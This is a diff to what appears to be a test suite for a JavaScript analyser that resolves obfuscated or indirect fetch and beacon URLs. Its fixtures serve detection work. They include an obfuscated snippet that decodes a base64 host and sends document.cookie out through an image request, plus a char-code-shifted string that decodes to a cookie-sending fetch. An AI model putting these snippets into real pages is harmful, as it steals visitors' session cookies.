@@ -7,6 +7,32 @@ const SHIFTED =
   '103,102,117,100,105,41,35,48,121,64,101,62,35,44,101,112,100,118,110,102,111,117,47,100,112,112,108,106,102,42'
 const CASES: { name: string; source: string; has: string[]; not?: string[] }[] = [
   {
+    name: "a named object literal's method reads its own constants through this",
+    source: `var H = { parts: ['https://', 'stats.example-cdn.net', '/c.php'], busy: false,
+      target: function () { return this.parts.join('') },
+      send: function () { this.busy = true; fetch(this.target(), { method: 'POST' }) } }
+      document.addEventListener('click', function () { H.send() })`,
+    has: ['fetch("https://stats.example-cdn.net/c.php"'],
+  },
+  {
+    name: 'not when code writes through this under a computed name or a copier',
+    source: `var H = { parts: ['https://shop.example', '/ok'],
+      init: function (cfg) { Object.assign(this, cfg) },
+      send: function () { fetch(this.parts.join(''), { method: 'POST' }) } }
+      H.init(window.remoteCfg); document.addEventListener('click', function () { H.send() })`,
+    has: [],
+    not: ['fetch("https://shop.example/ok"'],
+  },
+  {
+    name: 'an object a function made is read where its member is, unless code writes it',
+    source: `var cfg = (function (p) { return { to: p[0] + '//' + p[1] } })(['https:', 'ingest.example-metrics.org'])
+      document.addEventListener('click', function () { fetch(cfg.to, { method: 'POST' }) })
+      var cfg2 = (function (p) { return { to: p[0] } })(['https://shop.example/a'])
+      document.addEventListener('change', function () { cfg2[window.k] = 'x'; fetch(cfg2.to) })`,
+    has: ['fetch("https://ingest.example-metrics.org"'],
+    not: ['fetch("https://shop.example/a")'],
+  },
+  {
     name: "the global object obfuscators fetch with Function('return this')() reads its built-ins",
     source: `var g=Function('return (function() '+'{}.constructor("return this")( )'+');')();
       var u=g['atob']('aHR0cHM6Ly9jZG4tbWV0cmljcy5zdS9j');new Image().src=u+'?d='+document.cookie`,
